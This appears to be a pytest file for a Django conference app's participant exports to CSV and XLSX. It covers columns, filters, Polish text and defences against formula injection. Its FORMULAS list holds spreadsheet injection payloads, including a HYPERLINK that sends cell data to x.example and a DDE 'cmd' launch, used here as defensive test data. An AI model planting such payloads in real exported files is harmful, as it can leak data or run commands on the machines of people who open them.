"""Exports of the participant list: CSV (UTF-8 with BOM) and XLSX, columns and filters."""

import csv
import io

import pytest
from openpyxl import load_workbook

from kongres.orga.exports import (
    BOM,
    export_columns_chosen,
    export_csv,
    export_filename,
    export_xlsx,
)
from kongres.registration.choices import QuestionKind, Sector, Voivodeship
from kongres.registration.models import Registration
from tests.factories import DayFactory, EditionFactory, TrackFactory
from tests.factories.registration import (
    QuestionFactory,
    RegistrationDataFactory,
    RegistrationFactory,
)

pytestmark = pytest.mark.django_db


@pytest.fixture
def edition():
    edition = EditionFactory(capacity=10)
    day = DayFactory(edition=edition)
    track = TrackFactory(edition=edition, name_pl="Gospodarka wodna")
    QuestionFactory(
        edition=edition,
        slug="nocleg",
        label_pl="Czy potrzebny nocleg?",
        label_en="Do you need a room?",
        kind=QuestionKind.YESNO,
    )
    RegistrationFactory(
        edition=edition,
        verified=True,
        data=RegistrationDataFactory(
            first_name="Żaneta",
            last_name="Gęślą-Jaźń",
            email="zaneta@example.org",
            sector=Sector.NGO,
            voivodeship=Voivodeship.LODZKIE,
            day_ids=[day.pk],
            track_ids=[track.pk],
            answers={"nocleg": True},
        ),
    )
    RegistrationFactory(
        edition=edition,
        verified=True,
        data=RegistrationDataFactory(
            first_name="Łukasz",
            last_name="Ćwik",
            email="lukasz@example.org",
            sector=Sector.BUSINESS,
            voivodeship=Voivodeship.MAZOWIECKIE,
            day_ids=[day.pk],
        ),
    )
    RegistrationFactory(edition=EditionFactory(), data__first_name="Obcy")
    return edition


def csv_rows(edition, params, keys):
    columns = export_columns_chosen(edition=edition, keys=keys)
    data = b"".join(export_csv(edition=edition, params=params, columns=columns))
    assert data.startswith(BOM.encode())
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


def test_csv_starts_with_bom_and_has_polish_letters_in_chosen_columns(edition):
    rows = csv_rows(edition, {"sort": "-created"}, ["first_name", "last_name", "sector", "days"])

    assert rows[0] == ["imię", "nazwisko", "sektor", "dni"]
    assert rows[1:] == [
        ["Łukasz", "Ćwik", "biznes", edition.days.get().date.isoformat()],
        ["Żaneta", "Gęślą-Jaźń", "organizacja pozarządowa", edition.days.get().date.isoformat()],
    ]


def test_csv_honours_the_filters_of_the_list(edition):
    rows = csv_rows(edition, {"voivodeship": "lodzkie"}, ["email", "voivodeship", "tracks"])

    assert rows[1:] == [["zaneta@example.org", "łódzkie", "Gospodarka wodna"]]


def test_csv_in_english_with_an_answer_column(edition):
    from django.utils import translation

    with translation.override("en"):
        rows = csv_rows(edition, {"q": "zaneta"}, ["answer_nocleg", "status", "last_name"])

    # the file's order of columns, whatever the order of the choice
    assert rows == [
        ["status", "last name", "Do you need a room?"],
        ["confirmed", "Gęślą-Jaźń", "yes"],
    ]


def test_default_columns_when_none_or_only_unknown_are_chosen(edition):
    keys = [column.key for column in export_columns_chosen(edition=edition, keys=["nonsense"])]

    assert keys[:5] == ["id", "status", "first_name", "last_name", "email"]
    assert "answer_nocleg" not in keys


def test_xlsx_opens_with_openpyxl_with_rows_and_polish_letters(edition):
    columns = export_columns_chosen(
        edition=edition, keys=["first_name", "last_name", "voivodeship", "answer_nocleg"]
    )
    with export_xlsx(edition=edition, params={"sort": "created"}, columns=columns) as file:
        workbook = load_workbook(io.BytesIO(file.read()), read_only=True)

    sheet = workbook.worksheets[0]
    assert sheet.title == "Uczestnicy"
    assert [list(row) for row in sheet.iter_rows(values_only=True)] == [
        ["imię", "nazwisko", "województwo", "Czy potrzebny nocleg?"],
        ["Żaneta", "Gęślą-Jaźń", "łódzkie", "tak"],
        ["Łukasz", "Ćwik", "mazowieckie"],  # no answer: no cell (the row reads shorter)
    ]


def test_export_filename_names_the_edition(edition):
    name = export_filename(edition=edition, extension="xlsx")

    assert name.startswith(f"{edition.slug}-uczestnicy-") and name.endswith(".xlsx")


def test_xlsx_writes_no_cell_for_an_empty_text(edition):
    """Blank answers are left out of the sheet, not written as empty strings: the file is
    smaller and written faster."""
    import zipfile

    columns = export_columns_chosen(edition=edition, keys=["first_name", "answer_nocleg"])
    with export_xlsx(edition=edition, params={"sort": "created"}, columns=columns) as file:
        archive = zipfile.ZipFile(io.BytesIO(file.read()))
    sheet = archive.read("xl/worksheets/sheet1.xml").decode()
    # header 2 cells, Żaneta 2 cells, Łukasz 1 cell (no answer)
    assert sheet.count("<c ") == 5


# -- formula injection (security review 2026-12, M2) ----------------------------------------------

FORMULAS = [
    '=HYPERLINK("https://x.example/?"&C2&E2,"Click")',
    "+48 600 000 000",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def formulas(edition):
    """Registrations whose free texts (institution, a text answer) and a question label
    (a column header) start like a formula."""
    QuestionFactory(
        edition=edition, slug="uwagi", label_pl="=uwagi", label_en="=notes", kind=QuestionKind.TEXT
    )
    for number, payload in enumerate(FORMULAS):
        registration = RegistrationFactory(
            edition=edition,
            data__email=f"formula{number}@example.org",
            data__day_ids=[edition.days.get().pk],
            data__institution=payload,
            data__answers={"uwagi": payload},
        )
        if payload[0] in "\t\r":  # the form strips these; the admin's text fields keep them
            Registration.objects.filter(pk=registration.pk).update(
                institution=payload, answers={"uwagi": payload}
            )
        else:
            assert (registration.institution, registration.answers["uwagi"]) == (payload, payload)
    return edition


def test_csv_neutralises_cells_a_spreadsheet_would_read_as_a_formula(formulas):
    rows = csv_rows(formulas, {"q": "formula", "sort": "created"}, ["institution", "answer_uwagi"])

    assert rows[0] == ["instytucja", "'=uwagi"]
    assert rows[1:] == [["'" + payload, "'" + payload] for payload in FORMULAS]


def test_csv_leaves_ordinary_text_and_numbers_alone(edition):
    rows = csv_rows(edition, {"sort": "created"}, ["id", "last_name", "institution"])

    assert [row[1:] for row in rows[1:]] == [
        ["Gęślą-Jaźń", "Urząd Miasta Krakowa"],
        ["Ćwik", "Urząd Miasta Krakowa"],
    ]
    assert all(row[0].isdigit() for row in rows[1:])


def test_xlsx_keeps_formula_like_text_as_text_cells(formulas):
    columns = export_columns_chosen(edition=formulas, keys=["institution", "answer_uwagi"])
    with export_xlsx(
        edition=formulas, params={"q": "formula", "sort": "created"}, columns=columns
    ) as file:
        sheet = load_workbook(io.BytesIO(file.read())).active

    assert sheet["B1"].value == "=uwagi" and sheet["B1"].data_type == "s"
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
    # as typed (XML reads a lone carriage return as a line feed)
    expected = [payload.replace("\r", "\n") for payload in FORMULAS for _ in range(2)]
    assert [cell.value for cell in cells] == expected
    assert {cell.data_type for cell in cells} == {"s"}  # strings, not formulas ("f")
